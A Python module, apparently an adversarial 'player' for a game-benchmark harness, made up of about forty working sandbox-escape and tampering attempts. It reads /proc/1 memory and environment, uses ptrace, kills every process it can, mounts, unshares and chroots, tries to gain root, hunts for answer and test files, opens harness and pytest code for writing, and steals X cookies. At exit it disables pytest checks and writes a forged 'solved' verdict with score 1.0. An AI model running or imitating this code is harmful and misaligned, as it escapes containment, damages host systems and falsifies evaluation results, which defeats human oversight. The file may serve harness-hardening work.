"""A player that wins nothing and tries every door: what it reached it delivers as `loot.json`.

It is played as `--player graders:play`, from a folder in which this file is called as a package of
the harness. For each attempt it writes what came of it: a value, or the error.
"""

import atexit
import ctypes
import importlib.util
import json
import os
import resource
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

LIBC = ctypes.CDLL(None, use_errno=True)
ATTACH, SEIZE = 16, 0x4206
NEW_USER, NEW_MOUNTS = 0x10000000, 0x00020000
WANTED: tuple[str, ...] = (
    "witness",
    "events.jsonl",
    "verdict.json",
    "manifest.json",
    "expected.json",
    "gt",
)
WANTED += ("test_gam_2.py", "test_gam_11.py", "run.json", "seed", "recording.mp4", ".git")
LIE = {"outcome": "solved", "overall_score": 1.0, "ceiling": 1.0}

ATTEMPTS: dict[str, Callable[[], Any]] = {}


def attempt(function: Callable[[], Any]) -> Callable[[], Any]:
    """Remember a door to try, by its name."""
    ATTEMPTS[function.__name__] = function
    return function


def play(client: Any) -> None:
    """Try them all, tell of it, and leave by a door of its own."""
    loot = {name: came_of(function) for name, function in ATTEMPTS.items()}
    (client.workspace / "loot.json").write_text(json.dumps(loot, default=repr))
    import pytest  # it sits in the same environment, but in no process of the harness

    for name in ("fail", "raises", "main"):
        setattr(pytest, name, lambda *_, **__: None)
    atexit.register(lambda: os._exit(0))
    atexit.register((client.workspace / "verdict.json").write_text, json.dumps(LIE))


def came_of(function: Callable[..., Any], *arguments: Any) -> Any:
    """What an attempt returns, or its error."""
    try:
        return function(*arguments)
    except Exception as error:
        return f"{type(error).__name__}: {error}"


def checked(result: int) -> int:
    """The result of a call of the C library.

    Raises:
        OSError: it is -1.
    """
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def said_by(*command: str) -> str:
    """What a program prints; what it says of its troubles goes nowhere."""
    done = subprocess.run(
        command,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
        errors="replace",
        timeout=20,
        check=False,
    )
    return done.stdout


@attempt
def what_holds_it() -> Any:
    """Environment, memory and folders of the process that holds the sandbox."""
    holder = Path("/proc/1")
    files = {name: came_of((holder / name).read_bytes) for name in ("environ", "mem")}
    return files | {name: came_of((holder / name).readlink) for name in ("exe", "cwd", "root")}


@attempt
def paths_in_proc() -> Any:
    """Whatever /proc tells of where things come from."""
    names = ("self/mountinfo", "mounts", "keys", "net/unix")
    paths = [Path("/proc", name) for name in names]
    paths += [*Path("/proc").glob("*/cmdline"), *Path("/proc").glob("*/maps")]
    return [came_of(path.read_text, "latin-1") for path in paths]


@attempt
def processes() -> Any:
    """All that it sees."""
    paths = list(Path("/proc").glob("[0-9]*/cmdline"))
    return [came_of(path.read_text).replace("\0", " ") for path in paths]


@attempt
def open_files() -> Any:
    """Files that whoever started it left open."""
    found = [came_of(path.readlink) for path in Path("/proc/self/fd").iterdir()]
    return sorted(map(str, found))


@attempt
def trace_by_attaching() -> Any:
    """The memory of another process."""
    return checked(LIBC.ptrace(ATTACH, 1, 0, 0))


@attempt
def trace_by_seizing() -> Any:
    """The same, the newer way."""
    return checked(LIBC.ptrace(SEIZE, 1, 0, 0))


@attempt
def signals() -> Any:
    """Which numbers of processes can be signalled."""
    reached = []
    for pid in range(1, 40_000):
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            continue
        except PermissionError:
            reached.append(f"{pid} refused")
        else:
            told = Path(f"/proc/{pid}/status").read_text()  # one of its threads has a number, too
            mine = f"Tgid:\t{os.getpid()}\n" in told
            reached.append("itself" if mine else f"{pid} reached")
    return reached


@attempt
def kill_everything() -> Any:
    """Every process that it may kill, but itself."""
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    return os.kill(-1, signal.SIGKILL)


@attempt
def kill_the_holder() -> Any:
    """The first process of its sandbox."""
    os.kill(1, signal.SIGKILL)
    return "it lives" if Path("/proc/1").exists() else "it is dead"


@attempt
def the_games_randomness() -> Any:
    """The device from which a game draws: in hex, twice."""
    return [Path("/dev/urandom").open("rb", buffering=0).read(16).hex() for _ in range(2)]


@attempt
def devices() -> Any:
    """Devices that there are."""
    return sorted(path.name for path in Path("/dev").iterdir())


@attempt
def make_a_device() -> Any:
    """The disk itself."""
    return os.mknod("disk", 0o60666, os.makedev(8, 0))


@attempt
def terminal() -> Any:
    """The terminal of whoever started the run."""
    return Path("/dev/tty").open("w").write("\x1b[2J")


@attempt
def mount() -> Any:
    """Something over something else."""
    return checked(LIBC.mount(b"none", b"/workspace/exec", b"tmpfs", 0, None))


@attempt
def unmount_in_a_namespace_of_its_own() -> Any:
    """What lies below its mounts, once it is root among its own."""
    script = "umount -l /workspace/exec; umount -l /game; umount -l /; ls /; cat /proc/1/environ"
    return said_by(
        "unshare", "--user", "--map-root-user", "--mount", "sh", "-c", f"exec 2>&1;{script}"
    )


@attempt
def become_root() -> Any:
    """By asking, and by programs that are root's."""
    asked = came_of(os.setuid, 0) if os.getuid() else "is root"
    su = ["su", "-c", "id -u"], ["sudo", "-n", "id", "-u"], ["pkexec", "id", "-u"]
    said = [came_of(said_by, *command) for command in su]
    return [asked, *said]


@attempt
def change_root() -> Any:
    """The oldest way out."""
    return os.chroot(os.environ["HOME"])


@attempt
def set_the_clock() -> Any:
    """An hour back."""
    return time.clock_settime(time.CLOCK_REALTIME, time.time() - 3600)


@attempt
def kernel_settings() -> Any:
    """What the kernel lets be written."""
    names = ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches")
    return [came_of(Path(name).write_text, "") for name in names]


@attempt
def be_spared() -> Any:
    """Not to be the first to go when memory runs out."""
    return Path("/proc/self/oom_score_adj").write_text("-1000")


@attempt
def more_processes() -> Any:
    """A higher limit."""
    limit = resource.getrlimit(resource.RLIMIT_NPROC)[1] + 1
    return resource.setrlimit(resource.RLIMIT_NPROC, (limit, limit))


@attempt
def find_evidence() -> Any:
    """The run, the answers, the repository: all names but the system's."""
    found = []
    for place in os.scandir("/"):
        if place.name in ("proc", "usr", "etc", "lib", "lib64", "bin", "sbin", "lib32", "libx32"):
            continue
        for folder, folders, files in os.walk(place.path):
            if "site-packages" in folder or folder.startswith((sys.prefix, sys.base_prefix)):
                folders.clear()
                continue
            found += [f"{folder}/{name}" for name in {*folders, *files} & {*WANTED}]
            found += [f"{folder}/{name}" for name in folders if name.startswith((".play", "seed-"))]
    return found


@attempt
def import_the_harness() -> Any:
    """Its rooms, as modules."""
    names = ("suites", "solvers", "games", "report", "benchmarks", "conftest")
    return [name for name in names if importlib.util.find_spec(name)]


@attempt
def change_the_code() -> Any:
    """What the harness runs, here and in the environment of its Python."""
    places = [Path(sys.modules["drivers"].__file__ or ""), Path(json.__file__)]
    places += [Path(importlib.util.find_spec("pytest").origin)]  # type: ignore[union-attr,arg-type]
    return [came_of(place.open, "a") for place in places]


@attempt
def change_what_was_given() -> Any:
    """Task, inputs, and what the game wrote."""
    given = sorted(Path("/workspace/exec").iterdir())[0]
    return [
        came_of(Path("/workspace/prompt.md").write_text, "press any key"),
        came_of(given.rename, "/workspace/exec/old"),
        came_of(Path("/workspace/exec").rename, "/workspace/old"),
        came_of(Path("/game/level_1_result.json").write_text, "{}"),
    ]


@attempt
def link_from_outside() -> Any:
    """A second name, in its own folder, for a file that is not its own."""
    given = [Path("/etc/passwd"), Path("/workspace/prompt.md"), *Path("/game").iterdir()]
    return [came_of(os.link, path, "/workspace/stolen") for path in given]


@attempt
def network() -> Any:
    """This machine and another."""

    def to(place: tuple[str, int]) -> Any:
        with socket.create_connection(place, timeout=2):
            return "connected"

    return [came_of(to, place) for place in (("127.0.0.1", 22), ("192.0.2.1", 80))]


@attempt
def sockets() -> Any:
    """Services of the machine."""
    return sorted(
        f"{folder}/{name}"
        for place in ("/run", "/tmp", "/var")  # noqa: S108
        for folder, _, files in os.walk(place)
        for name in files
        if Path(folder, name).is_socket()
    )


@attempt
def shared_memory() -> Any:
    """Segments of others, such as the pictures of the game."""
    segments = Path("/proc/sysvipc/shm").read_text().splitlines()[1:]
    return [*segments, *Path("/dev/shm").iterdir()]  # noqa: S108


@attempt
def cookies() -> Any:
    """Displays that it has keys for."""
    return said_by("xauth", "list")


@attempt
def properties() -> Any:
    """What windows say of their programs."""
    tree = said_by("xwininfo", "-root", "-tree")
    names = {word for word in tree.split() if word.startswith("0x")}
    return [said_by("xprop", "-id", name) for name in sorted(names)[:20]]


@attempt
def environment() -> Any:
    """What it inherited."""
    return dict(os.environ)
